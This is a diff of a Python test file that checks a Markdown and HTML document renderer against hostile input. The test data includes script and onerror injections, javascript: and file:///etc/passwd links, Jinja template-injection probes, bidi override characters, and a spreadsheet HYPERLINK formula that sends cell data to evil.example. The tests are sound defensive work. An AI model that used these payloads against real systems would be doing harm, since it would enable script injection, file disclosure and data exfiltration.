@@ -11,6 +11,7 @@ import sys
 from dataclasses import dataclass
 from functools import cache
 from html.parser import HTMLParser
+from itertools import pairwise
 from pathlib import Path
 from typing import Any
 from xml.etree import ElementTree
@@ -30,7 +31,7 @@ from app.core.document.model import DocumentSet
 from app.io.documents.files import Source, make_files
 from app.io.documents.job import AssemblyJob
 from tests.documented_pack import make_assessment, make_pack, objective, report_of
-from tests.io.documents.real_pack import answered, built_in, hostile, report_on
+from tests.io.documents.real_pack import built_in, hostile, report_on
 
 ROOT = Path(__file__).parents[3]
 CHART = re.compile(r"charts/[a-z0-9-]+\.svg")
@@ -39,23 +40,21 @@ LITERAL, PROSE = "Zq7", "Pq7"
 """Marks that begin what is plain text, and what is a team's own Markdown."""
 
 KINDS = {
-    "html": 'Zq7 <b onclick="x()">b</b> <script>alert(1)</script><img src=file:///etc/passwd onerror=x> <!-- c --> &amp;',
-    "images": r"Zq7 ![a](https://evil.example/x.png) ![b](/etc/passwd) ![c](\\host\share\x.png) ![d](file:///etc/passwd)"
-    " ![e](data:image/svg+xml;base64,AA) ![f](charts/readiness.svg)",
-    "links": "Zq7 [a](javascript:alert(1)) [b](file:///etc/passwd) [c](smb://host/x) [d](//host/x) <javascript:alert(1)>",
-    "definitions": '[Zq7]: javascript:alert(1) "t"\n\nsee [Zq7]',
-    "jinja": "Zq7 {{ 7*7 }} {% for x in range(9) %}x{% endfor %} {# no #} {{ service.__class__ }}",
-    "cel": "Zq7 {row.target} ${row} size([1]) == 1 && true || false {service}",
-    "footnotes": "Zq7[^1] ^[inline]\n\n[^1]: note",
+    "inline": 'Zq7 <b onclick="x()">b</b> <script>alert(1)</script><img src=file:///etc/passwd onerror=x> <!-- c -->'
+    ' "t" \'x\' \\ \\" \\| &amp; &#60; `c` *e* _e_ ~~s~~ \u202eevil\u202c \u2066x\u2069'
+    " {{ 7*7 }} {% for x in range(9) %}x{% endfor %} {# no #} {row.target} ${row} size([1]) == 1 && true",
+    "addresses": r"Zq7 ![a](https://evil.example/x.png) ![b](/etc/passwd) ![c](\\host\share\x.png) ![d](file:///etc/x)"
+    " ![e](data:image/svg+xml;base64,AA) ![f](charts/readiness.svg)"
+    " [a](javascript:alert(1)) [b](file:///etc/passwd) [c](smb://host/x) [d](//h/x) <javascript:alert(1)>",
+    "definitions": '[Zq7]: javascript:alert(1) "t"\n\nsee [Zq7] and Zq7[^1] ^[inline]\n\n[^1]: note',
     "headings": "# Zq7 one {#sre}\n\nZq7 two\n===\n\n## Zq7 three {#objectives}",
     "tables": "Zq7 | a | b |\n| --- | --- |\n| c | d |",
     "fences": "```Zq7\nx\n\n~~~ Zq7",
-    "requirements": "> **REQ-SLM-01** Zq7 **shall**\n\n**REQ-FAKE-99 · OPEN ERROR SLM-001** Zq7\n\n**Not yet answered.** Zq7",
-    "bidi": "Zq7 \u202eevil\u202c \u2066x\u2069",
-    "words": "Zq7" + "w" * 9_997,
-    "quotes": 'Zq7 "t" \'x\' \\ \\" \\| &amp; &#60; `c` *e* _e_ ~~s~~',
+    "requirements": "> **REQ-SLM-01** Zq7 **shall**\n\n**REQ-FAKE-99 · OPEN ERROR SLM-001** Zq7\n\n"
+    "**Not yet answered.** Zq7",
     "lists": "- Zq7\n1. Zq7\n+ [ ] Zq7\n: Zq7\n\n    Zq7",
     "formulas": '=HYPERLINK("http://evil.example/?"&A1) Zq7',
+    "words": "Zq7" + "w" * 9_997,
 }
 ELEMENTS = {
     *("a", "blockquote", "br", "code", "dd", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4"),
@@ -158,9 +157,7 @@ def test_markdown_has_no_footnote(kind: str) -> None:
 @every_kind
 def test_no_heading_is_forged(kind: str) -> None:
     tokens = made(kind).tokens
-    headings = [
-        (each.tag, _words([words])) for each, words in zip(tokens, tokens[1:], strict=False) if _is_heading(each)
-    ]
+    headings = [(each.tag, _words([words])) for each, words in pairwise(tokens) if _is_heading(each)]
     literal = normalised(KINDS[kind])
     forged = [(tag, text) for tag, text in headings if LITERAL in text and text in literal and text != literal]
     assert forged == []
@@ -229,12 +226,12 @@ def test_the_traceability_has_its_columns_and_no_formula(kind: str) -> None:
 
 
 def test_writing_is_never_turned_around() -> None:
-    both = whole_markdown(made("bidi").documents.documents) + made("bidi").html
-    assert not re.search("[\u202a-\u202e\u2066-\u2069]", both + "".join(made("bidi").documents.charts.values()))
+    both = whole_markdown(made("inline").documents.documents) + made("inline").html
+    assert not re.search("[\u202a-\u202e\u2066-\u2069]", both + "".join(made("inline").documents.charts.values()))
 
 
 def test_templates_in_answers_are_not_run() -> None:
-    assert "49" not in _words(made("jinja").tokens).replace("SLM-049", "")
+    assert "49" not in _words(made("inline").tokens).replace("SLM-049", "")
 
 
 @pytest.mark.parametrize("link", ["javascript:alert(1)", "file:///etc/passwd", "https://e.org/)[x](smb://host/x)"])
@@ -251,8 +248,8 @@ def test_a_link_of_evidence_or_of_a_reference_is_shown_as_one_only_when_it_is_sa
 # Everything at once, as files
 
 EVERYTHING = (
-    "Zq7 <script>x</script><img src=file:///etc/passwd> ![i](file:///etc/hostname) ![c](/etc/hostname) [l](javascript:x)"
-    " [s](smb://h/x) # h {{7*7}} | a \u202e"
+    "Zq7 <script>x</script><img src=file:///etc/passwd> ![i](file:///etc/hostname) ![c](/etc/hostname) "
+    "[l](javascript:x) [s](smb://h/x) # h {{7*7}} | a \u202e"
 )
 
 
@@ -348,7 +345,7 @@ ordinary, hostile = pickle.load(sys.stdin.buffer)
 worker._answer(ordinary)
 seen = []
 def hook(event, arguments):
-    if event in ("open", "os.listdir", "os.scandir", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system"):
+    if event.startswith(("open", "os.listdir", "os.scandir", "os.system", "socket.", "subprocess.")):
         seen.append([event, str(arguments[0])])
 sys.addaudithook(hook)
 answer = worker._answer(hostile)
@@ -357,8 +354,8 @@ print(json.dumps({"seen": seen, "documents": sorted(answer["markdown"])}))
 
 
 def test_assembling_and_rendering_open_no_file_and_no_address() -> None:
-    written = hostile(EVERYTHING, EVERYTHING, "file:///etc/hostname")
-    jobs = [AssemblyJob(built_in().pack, each, report_on(each), html=True) for each in (answered(), written)]
+    ordinary, written = hostile("Words", "Words"), hostile(EVERYTHING, EVERYTHING, "file:///etc/hostname")
+    jobs = [AssemblyJob(built_in().pack, each, report_on(each), html=True) for each in (ordinary, written)]
     done = subprocess.run([sys.executable, "-c", WATCHED], input=pickle.dumps(jobs), capture_output=True, cwd=ROOT)
     assert done.returncode == 0, done.stderr.decode()
     found = orjson.loads(done.stdout)
